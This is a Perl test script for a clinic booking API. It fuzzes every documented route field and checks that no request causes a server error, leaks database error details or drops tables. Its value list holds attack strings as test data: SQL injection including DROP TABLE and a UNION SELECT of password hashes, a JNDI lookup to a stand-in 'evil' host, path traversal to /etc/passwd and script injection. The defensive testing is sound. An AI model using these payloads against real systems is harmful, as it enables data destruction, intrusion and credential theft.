#!/usr/bin/perl
# Every field of every route, as the OpenAPI document names them, with values
# that break things elsewhere: whatever comes, no answer is a fault of ours
# (security.md C-39, C-42, C-45, C-47, O13).  A third of all pairs, each field
# another one; all of them with OPDESK_LONG=1.
use v5.36;
use lib 't/lib';
use utf8;
use JSON::PP ();
use Opdesk::Contract;
use Opdesk::Rows;
use Opdesk::Test;

my $clinic = clinic(set => { OPDESK_LIMIT_SENSITIVE => 0 });
my %caller = map { $_ => $clinic->as($_ eq 'public' ? 'none' : $_) } qw(public patient doctor frontdesk admin);
my $visit = $caller{admin}->post('/api/appointments', { patientId => $DEMO{asha}, %{ $clinic->free_slot } })->json->{appointment};
my $hold = $caller{public}->post('/api/reservations', $clinic->free_slot)->json;

my @texts = (
	'', ' ', "'", '"', "' OR '1'='1", "'; DROP TABLE core.appointment; --", "1) UNION SELECT password_hash FROM auth.account --", "x'; SELECT pg_sleep(5); --", '$1', '\\', '\\x00', '%', '_', '%s%s%n', '{{7*7}}', '${jndi:ldap://evil}',
	'../../../etc/passwd', '/dev/null', "a\tb", "line\nend", "\x{7f}", "\x{80}", "\x{feff}", "\x{202e}gnp.exe", "\x{1f600}" x 20, "e\x{301}" x 50, "\x{fffd}", "\x{ffff}", "\x{10ffff}", 'x' x 5000, '<script>alert(1)</script>', 'NULL', 'null', 'true', '[]', '{}', '{a,b}', '{"a":1}',
	'0', '-1', '1', '1.5', '1e400', '2147483648', '9223372036854775808', '99999999999999999999', 'NaN', 'Infinity', 'infinity', '-infinity', 'epoch', 'now', 'today', 'allballs',
	'0000-00-00', '0001-01-01', '9999-12-31', '10000-01-01', '2026-02-30', '2026-02-29', '24:00', '23:59', '2026-11-20T24:00:00Z', '0001-01-01T00:00:00Z', '9999-12-31T23:59:59Z', '9999-12-31T23:59:60Z', '2026-11-20T09:00:00+23:59', '2026-11-20T09:00:00-18:00', '4713-01-01T00:00:00Z',
	'00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', $DEMO{meera}, $DEMO{consultation}, $DEMO{asha}, '{00000000-0000-4000-8000-000000000001}', 'a@b.cd', '+919811112222', '+0000000', '(((((((((1234567',
	'lead,lead', 'lead,,lead', 'confirmed',
);
my @values = (@texts, undef, 0, 1, -1, 1.5, 2147483647, 2147483648, 1e15, JSON::PP::true, JSON::PP::false, [], {}, [ [] ], [ { weekday => 1 } ], [undef], { a => undef }, [ ('x') x 50 ]);
sub encoded ($text) { utf8::encode(my $bytes = $text // ''); $bytes =~ s/([^A-Za-z0-9._~-])/sprintf '%%%02X', ord $1/ger }

# What the row has to be for the rest of a request to be looked at.
my %known = ('id' => $visit->{id}, 'doctorId' => $DEMO{meera}, 'X-Edit-Token' => 'x', 'X-Reservation-Token' => 'x', version => 1, 'If-Match' => '"1"', name => 'N', phone => '9811112222', startsAt => $clinic->free_slot->{startsAt},
	rules => [], exceptions => [], email => 'desk@opdesk.test', password => 'x', adminKey => 'x', from => '2026-11-20', to => '2026-11-21');
my (%asked, @faults);
my $pairs = 0;
my $document = Opdesk::Contract::document();

sub ask ($who, $method, $path, $body, $headers, $what) {
	my $res = $caller{$who}->request(uc $method, $path, $body, $headers);
	$asked{ $res->status }++;
	push @faults, "$who, $what: " . $res->line if $res->status >= 500 || $res->status < 200;
	push @faults, "$who, $what tells too much: " . $res->line if $res->status >= 400 && $res->text =~ /SQLSTATE|ERROR:|LINE \d|relation|column|syntax error|pg_|plpgsql|\.c:\d|\/tmp\//i && $res->text !~ /"message":"One of/;
	return $res;
}

for my $path (sort keys %{ $document->{paths} }) {
	for my $method (sort keys %{ $document->{paths}{$path} }) {
		my $o = $document->{paths}{$path}{$method};
		next if $path =~ m{/auth/(login|logout|logout-all)$}; # slow by design; and the end of the caller
		my @who = grep { $caller{$_} } @{ $o->{'x-roles'} };
		my $schema = $o->{requestBody}{content}{'application/json'}{schema} // {};
		my %given = map { $_ => $known{$_} } grep { exists $known{$_} } @{ $schema->{required} // [] }, $schema->{properties}{version} ? 'version' : ();
		my $n = 0;
		my $go = sub ($field, $where, $value) {
			return if $pairs++ % 3 && !$ENV{OPDESK_LONG};
			my $who = $who[ $n++ % @who ];
			my (%headers, %query);
			my %body = %given;
			my $url = $path =~ s/\{(\w+)\}/$where eq 'path' && $1 eq $field ? encoded($value) : $known{$1}/ger;
			$query{$field} = $value if $where eq 'query';
			$query{from} //= $known{from} if $where eq 'query' && $field eq 'to';
			$headers{$field} = $value if $where eq 'header';
			$body{$field} = $value if $where eq 'body';
			$url .= '?' . join '&', map { "$_=" . encoded($query{$_}) } sort keys %query if %query;
			ask($who, $method, $url, $method =~ /get|delete/ ? undef : \%body, \%headers, "$method $path, $where $field");
		};
		for my $p (@{ $o->{parameters} }) {
			for my $value (@texts) {
				next if $p->{in} eq 'header' && $value !~ /^[ -~]*$/;
				next if $p->{in} eq 'path' && $value =~ /^\.|^$|\/|\0/;
				$go->($p->{name}, $p->{in}, $value);
			}
		}
		for my $name (sort keys %{ $schema->{properties} // {} }) {
			$go->($name, 'body', $_) for @values;
			my $items = $schema->{properties}{$name}{items}{properties} // next;
			for my $item (sort keys %$items) {
				my %right = $name eq 'rules' ? (weekday => 1, start => '09:00', end => '10:00', slotMinutes => 15) : (kind => 'closed', from => '2026-11-20T09:00:00Z', to => '2026-11-20T10:00:00Z');
				$go->($name, 'body', [ { %right, $item => $_ } ]) for @values;
			}
		}
	}
}

my $n = 0;
$n += $_ for values %asked;
cmp_ok $n, '>', 1000, "$n requests were made: " . join ', ', map { "$asked{$_} times $_" } sort keys %asked;
is join("\n", @faults), '', 'no answer was a fault of ours, or told how we work';
is $clinic->psql('SELECT count(*) > 100 FROM core.appointment'), 't', 'all tables are still there';
unlike join('', map { $clinic->log_of($_) } @{ $clinic->{programs} }), qr/event=query-failed|level=fatal|transaction-left-open/, 'no query failed that should not' or diag join "\n", map { grep { /query-failed|fatal/ } split /\n/, $clinic->log_of($_) } @{ $clinic->{programs} };
contract_is_kept;
done_testing;
